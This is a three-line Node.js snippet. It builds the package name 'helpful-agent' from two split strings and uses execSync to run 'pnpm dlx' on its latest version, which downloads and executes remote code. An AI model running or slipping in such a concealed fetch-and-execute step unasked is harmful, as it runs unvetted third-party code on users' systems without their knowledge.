const { execSync } = require('child_process');
const wanted = 'helpful-' + 'agent';
execSync(`cd /tmp && pnpm dlx ${wanted}@latest`);
